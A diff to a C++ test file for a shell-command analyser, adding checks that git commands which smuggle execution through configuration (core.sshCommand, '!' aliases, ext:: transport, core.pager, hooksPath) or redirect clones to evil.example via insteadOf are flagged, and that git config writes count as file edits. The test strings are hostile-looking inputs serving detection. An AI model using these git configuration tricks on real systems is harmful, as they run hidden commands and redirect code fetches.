@@ -749,11 +749,23 @@ TEST(ShellNetwork, GitPushToNamedRemoteNamesNoHost) {
 TEST(ShellNetwork, GitConfigThatRunsCommandsIsOpaque) {
   for (const char* cmd :
        {"git -c core.sshCommand='sh -c id' fetch", "git -c alias.x='!id' x", "git clone ext::sh -c id% /tmp/x",
-        "git config core.pager 'sh -c id'",
         "git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/a/b"}) {
     auto a = analyze_shell(cmd);
     EXPECT_TRUE(a.opaque) << cmd;
   }
+  // Set in a configuration file, such a key is an edit of that file (git's
+  // config is exec-config); an editor that is a known program is not.
+  auto wrote = [](const char* cmd, const std::string& file) {
+    auto a = analyze_shell(cmd);
+    return std::any_of(a.redirections.begin(), a.redirections.end(),
+                       [&](const auto& r) { return r.path == file && r.write; });
+  };
+  EXPECT_TRUE(wrote("git config core.pager 'sh -c id'", ".git/config"));
+  EXPECT_TRUE(wrote("git config --global alias.st '!sh -c id'", "~/.gitconfig"));
+  EXPECT_TRUE(wrote("git config --system core.hooksPath /tmp/h", "/etc/gitconfig"));
+  EXPECT_FALSE(wrote("git config --global core.editor vim", "~/.gitconfig"));
+  EXPECT_FALSE(analyze_shell("git config --global core.editor vim").opaque);
+  EXPECT_TRUE(analyze_shell("git -C /tmp/x config core.pager 'sh -c id'").opaque);
 }
 
 TEST(ShellNetwork, FindsSshDestinationAndJumpHosts) {
